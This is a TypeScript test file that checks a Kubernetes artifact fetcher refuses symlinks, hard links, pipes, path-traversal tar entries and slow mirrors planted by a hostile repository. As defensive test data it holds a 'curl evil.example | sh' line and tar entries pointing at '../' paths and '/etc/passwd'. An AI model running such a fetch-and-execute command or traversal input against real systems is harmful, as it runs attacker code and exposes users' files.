import {
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { get } from '../../src/artifacts/http.ts';
import { pick } from '../../src/artifacts/upstream.ts';
import { cniPluginNames } from '../../src/core/cni-plugins.ts';
import type { ArtifactIndex } from '../../src/states/stage.ts';
import { tarball, type TarEntry } from '../bad-input/tar.ts';
import { eachUpstream } from '../artifacts/each-upstream.ts';
import { clusterWith, openWithPins, program, sha256, stock, sums, type Upstream, URLS } from '../artifacts/upstream.ts';

/** What a repository would like to have in the operator's profile. */
const LINE = 'curl evil.example | sh\n';

let upstream: Upstream;
let scratch: string;
let repository: string;
let directory: string;
let shelf: string;
/** Belongs to the operator, and lies outside the repository. */
let profile: string;

eachUpstream(({ folder, ...fresh }) => {
  ({ upstream } = fresh);
  scratch = folder;
  repository = join(scratch, 'repository');
  directory = join(repository, 'artifacts');
  shelf = join(directory, 'kubernetes/1.37.1/linux-amd64');
  profile = join(scratch, 'home/.profile');
  mkdirSync(dirname(profile), { recursive: true });
  mkdirSync(repository);
  writeFileSync(profile, 'mine\n');
  writeFileSync(join(repository, 'lab.yaml'), '');
});

const fetching = (at = directory): Promise<ArtifactIndex> =>
  openWithPins(clusterWith(at, upstream.url, true, { files: [join(repository, 'lab.yaml')] }));
const linked = (path: string, target: string): void => {
  mkdirSync(dirname(path), { recursive: true });
  symlinkSync(target, path);
};
const untouched = (): void => {
  expect(readFileSync(profile, 'utf8')).toBe('mine\n');
  expect(readdirSync(join(scratch, 'home'))).toEqual(['.profile']);
  expect(readdirSync(scratch).toSorted()).toEqual(['home', 'repository']);
};

describe('what a repository lays into the folder of binaries leads nowhere', () => {
  it.each<[string, () => string]>([
    ['a half file that is a link', () => join(shelf, 'kubelet.part')],
    [
      'a half archive that is a link',
      () => join(directory, 'etcd/3.7.3/linux-amd64/etcd-v3.7.3-linux-amd64.tar.gz.part'),
    ],
    ['a list of checksums that is a link', () => join(shelf, 'SHA256SUMS')],
    ['a memory of what was verified that is a link', () => join(directory, '.mcpk-verified.json')],
  ])('%s', async (_what, path) => {
    linked(path(), profile);
    await expect(fetching()).rejects.toMatchObject({
      code: 'invalid',
      exitCode: 10,
      message: `${path()} is a link: nothing is read or written there`,
      hint: expect.stringContaining('delete it') as string,
    });
    untouched();
  });

  it('a binary that is a link is not read through it', async () => {
    stock(directory);
    rmSync(join(shelf, 'kubelet'));
    symlinkSync(profile, join(shelf, 'kubelet'));
    await expect(fetching()).rejects.toMatchObject({ message: expect.stringContaining('kubelet is a link') as string });
  });

  it('a link to nothing makes no file there', async () => {
    linked(join(shelf, 'kubelet.part'), join(scratch, 'home/.zprofile'));
    await expect(fetching()).rejects.toMatchObject({ code: 'invalid' });
    untouched();
  });

  it.each(['kubernetes', 'kubernetes/1.37.1', 'kubernetes/1.37.1/linux-amd64', 'etcd', 'cni-plugins'])(
    'a folder that is a link: %s',
    async (name) => {
      const path = join(directory, name);
      linked(path, join(scratch, 'home'));
      await expect(fetching()).rejects.toMatchObject({
        code: 'invalid',
        message: expect.stringMatching(`^${path} is a link`) as string,
      });
      untouched();
    },
  );

  it.each<[string, () => string, string]>([
    ['the root itself', () => directory, 'artifacts'],
    ['a folder on the way to the root', () => join(repository, 'a/artifacts'), 'a'],
    ['the root beside the folder of inventories', () => join(repository, '../repository/artifacts'), 'artifacts'],
  ])('%s is a link', async (_what, at, link) => {
    linked(join(repository, link), join(scratch, 'home'));
    await expect(fetching(at())).rejects.toMatchObject({
      code: 'invalid',
      message: `${join(repository, link)} is a link: nothing is read or written there`,
    });
    untouched();
  });

  it('a half file that is a second name of another is not appended to', async () => {
    mkdirSync(shelf, { recursive: true });
    linkSync(profile, join(shelf, 'kubelet.part'));
    await expect(fetching()).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringContaining('kubelet.part has a second name (a hard link)') as string,
    });
    untouched();
  });

  it('a half file that is a pipe is not waited for', async () => {
    mkdirSync(shelf, { recursive: true });
    execFileSync('mkfifo', [join(shelf, 'kubelet.part')]);
    await expect(fetching()).rejects.toMatchObject({
      message: expect.stringContaining('kubelet.part is no regular file') as string,
    });
  });

  it.runIf(process.geteuid?.() === 0)('a half file of another user is not taken over', async () => {
    mkdirSync(shelf, { recursive: true });
    writeFileSync(join(shelf, 'kubelet.part'), LINE);
    execFileSync('chown', ['65534', join(shelf, 'kubelet.part')]);
    await expect(fetching()).rejects.toMatchObject({
      message: expect.stringContaining('kubelet.part is another user’s') as string,
    });
  });

  it('a file where a folder should be', async () => {
    mkdirSync(directory);
    writeFileSync(join(directory, 'kubernetes'), '');
    await expect(fetching()).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringContaining('kubernetes is no folder') as string,
    });
  });
});

describe('a mirror', () => {
  it('that answers the first request with a part of a file gets nothing kept', async () => {
    upstream.parts.set(URLS.kubelet, 10);
    await expect(fetching()).rejects.toMatchObject({ message: expect.stringContaining('answers 206') as string });
    expect(readdirSync(shelf).filter((name) => name.startsWith('kubelet'))).toEqual([]);
  });

  it('that goes on from elsewhere than asked changes nothing of the half file', async () => {
    mkdirSync(shelf, { recursive: true });
    writeFileSync(join(shelf, 'kubelet.part'), program('kubelet').subarray(0, 100));
    upstream.parts.set(URLS.kubelet, 0);
    await expect(fetching()).rejects.toMatchObject({ message: expect.stringContaining('another range') as string });
    expect(readFileSync(join(shelf, 'kubelet.part'))).toEqual(program('kubelet').subarray(0, 100));
  });

  it('replaces a link in the place of a finished file, not what it leads to', async () => {
    linked(join(directory, 'etcd/3.7.3/linux-amd64/etcd'), profile);
    await fetching();
    expect(lstatSync(join(directory, 'etcd/3.7.3/linux-amd64/etcd')).isFile()).toBe(true);
    untouched();
  });

  it('that drips is not waited for without end', async () => {
    vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval'] });
    const dripping = createServer((_request, response) => {
      response.writeHead(200, { 'content-length': 1000 }).write('x');
    });
    await new Promise<void>((done) => dripping.listen(0, '127.0.0.1', done));
    try {
      const url = `http://127.0.0.1:${(dripping.address() as AddressInfo).port}/x`;
      const answer = await get(url, {}, new AbortController().signal);
      const read = answer.toArray();
      vi.advanceTimersByTime(31_000);
      await expect(read).rejects.toThrow('it sends less than 1 KiB a second');
    } finally {
      vi.useRealTimers();
      dripping.close().closeAllConnections();
    }
  });
});

describe('an archive of URLS.cni plugins', () => {
  const needed = cniPluginNames('bridge');
  const plugins = needed.map((name): TarEntry => ({
    name: `./${name}`,
    body: name,
  }));
  const serve = (entries: TarEntry[]): void => {
    stock(directory, ['kubernetes/1.37.1', 'etcd/3.7.3']);
    const archive = tarball(entries);
    upstream.files.set(URLS.cni, archive);
    upstream.files.set(`${URLS.cni}.sha256`, sums(archive, 'cni-plugins-linux-amd64-v1.9.1.tgz'));
  };

  it('gives only programs that upstream has', async () => {
    serve([
      ...plugins,
      ...['./kubelet', './evil', './sub/vlan', '../vlan', '/vlan', './vlan/../tap'].map((name) => ({
        name,
        body: 'x',
      })),
    ]);
    await fetching();
    expect(readdirSync(join(directory, 'cni-plugins/1.9.1/linux-amd64')).toSorted()).toEqual(
      ['SHA256SUMS', ...needed].toSorted(),
    );
    untouched();
  });

  it.each<[string, Partial<TarEntry>]>([
    ['a symbolic link', { type: '2', link: '../../../../home/.profile' }],
    ['a hard link', { type: '1', link: '/etc/passwd' }],
    ['a device', { type: '3' }],
  ])('gives no program that is %s', async (_what, entry) => {
    serve([...plugins, { name: './vlan', ...entry }]);
    await expect(fetching()).rejects.toMatchObject({
      code: 'fetch',
      message: `vlan in ${upstream.url}/moved${URLS.cni} is no regular file`,
    });
    expect(existsSync(join(directory, 'cni-plugins/1.9.1/linux-amd64/vlan'))).toBe(false);
  });

  it('is refused when all of it together is larger than a release', () => {
    const many = ['vlan', 'tap', 'tuning'].map((name) => ({ member: `./${name}`, size: 2 ** 30, isFile: true }));
    const programs = ['vlan', 'tap', 'tuning'];
    const from = { names: [], url: 'https://x/cni.tgz', inside: '', programs };
    expect(() => pick(many, from)).toThrow('https://x/cni.tgz holds more than 2 GiB of programs');
    expect([...pick(many.slice(1), from).keys()]).toEqual(['tap', 'tuning']);
  });

  it('is refused when it lacks a program that every node needs', async () => {
    serve(plugins.filter(({ name }) => name !== './bridge'));
    await expect(fetching()).rejects.toMatchObject({
      message: expect.stringMatching(/does not hold bridge$/) as string,
    });
  });
});

it.each(['/proc/self/cwd/artifacts', '/dev/fd/3/artifacts'])('%s names no folder of its own', async (at) => {
  await expect(fetching(at)).rejects.toMatchObject({
    code: 'invalid',
    exitCode: 10,
    message: expect.stringContaining(`${at} `) as string,
  });
});

it('what is called verified.json in the folder may be the operator’s own', async () => {
  mkdirSync(directory);
  const own = join(directory, 'verified.json');
  writeFileSync(own, '{"mine":1}');
  await fetching();
  expect(readFileSync(own, 'utf8')).toBe('{"mine":1}');
});

describe('links of the operator’s own', () => {
  afterEach(() => vi.unstubAllEnvs());

  it('may lead to a root that shares nothing with the inventory but the home', async () => {
    vi.stubEnv('HOME', scratch);
    linked(join(scratch, 'elsewhere'), join(scratch, 'home'));
    const index = await fetching(join(scratch, 'elsewhere/artifacts'));
    expect(index.get('kubelet', 'amd64').sha256).toBe(sha256(program('kubelet')));
    expect(existsSync(join(scratch, 'home/artifacts/from'))).toBe(true);
  });

  it('may lead to the default folder, wherever the inventory lies', async () => {
    const cache = join(repository, '.cache');
    linked(cache, join(scratch, 'home'));
    await expect(fetching(join(cache, 'mcpk/artifacts'))).rejects.toMatchObject({ code: 'invalid' });
    vi.stubEnv('XDG_CACHE_HOME', cache);
    const index = await fetching(join(cache, 'mcpk/artifacts'));
    expect(index.get('kubelet', 'amd64').sha256).toBe(sha256(program('kubelet')));
  });
});
